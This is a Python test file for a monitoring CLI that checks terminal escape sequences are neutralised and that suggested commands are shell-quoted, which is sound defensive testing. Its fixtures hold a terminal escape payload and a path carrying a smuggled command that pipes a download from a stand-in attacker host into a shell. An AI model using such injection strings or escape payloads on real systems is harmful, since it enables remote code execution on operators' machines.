"""What a job sends reaches the operator's terminal: no escape sequence gets through, and every
command shown to be copied is quoted for the shell."""

from __future__ import annotations

import argparse
import shlex
from pathlib import Path
from typing import Any

import pytest

from xmon.cli import programs
from xmon.cli.capture import describe
from xmon.views.safe_text import printable
from xmon.wire import client
from xmon.wire.client import CaptureResult, HloText

EVIL = "\x1b]0;pwned\x07\x1b[2J\u2028\u0085\x9b"
INJECTION = "/tmp/x; curl evil.example | sh"


def _no_control(text: str, keep: str = "\n") -> None:
    for ch in text:
        assert ch in keep or (ch.isprintable() and ch not in "\u2028\u2029"), repr(ch)


def test_capture_output_has_no_escapes_and_quotes_its_commands() -> None:
    result = CaptureResult(job_name=EVIL, pid=7, kind="trace", log_dir=INJECTION,
                           run_dir=INJECTION, paths=(f"{INJECTION}/{EVIL}.xplane.pb",),
                           message=f"traced {EVIL}", seconds=1.0)  # fmt: skip
    text = describe(result)
    _no_control(text)
    commands = [line.strip() for line in text.splitlines() if line.startswith("  xprof server")]
    assert shlex.split(commands[0]) == ["xprof", "server", "--logdir", INJECTION, "--port", "8791"]
    memory = describe(CaptureResult(EVIL, 7, "memory", INJECTION, INJECTION,
                                    (f"{INJECTION}.prof",), "", 0.1))  # fmt: skip
    _no_control(memory)
    pprof = [line.strip() for line in memory.splitlines() if line.startswith("  pprof")]
    assert shlex.split(pprof[0])[-1] == f"{INJECTION}.prof"


def test_hlo_text_is_printed_without_escapes(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    class FakeClient:
        def __init__(self, socket_path: Path | None) -> None:
            pass

        def __enter__(self) -> FakeClient:
            return self

        def __exit__(self, *exc: Any) -> None:
            pass

        def get_hlo(self, fingerprint: str, **kw: Any) -> HloText:
            return HloText("j", 1, "f", "p", f"HloModule m\n\tROOT {EVIL}\n")

    monkeypatch.setattr(client, "DaemonClient", FakeClient)
    args = argparse.Namespace(limit=0, socket=None, hlo="f", job=None, pid=None)
    assert programs.main(args) == 0
    out = capsys.readouterr().out
    _no_control(out, keep="\n\t")
    assert out.startswith("HloModule m\n\tROOT \\x1b]0;pwned")


def test_printable_escapes_every_control_and_separator() -> None:
    assert printable("a\x00b\u2028c\u0085d\x1be") == "a\\x00b\\u2028c\\x85d\\x1be"
    assert printable("ok ✓ naïve") == "ok ✓ naïve"
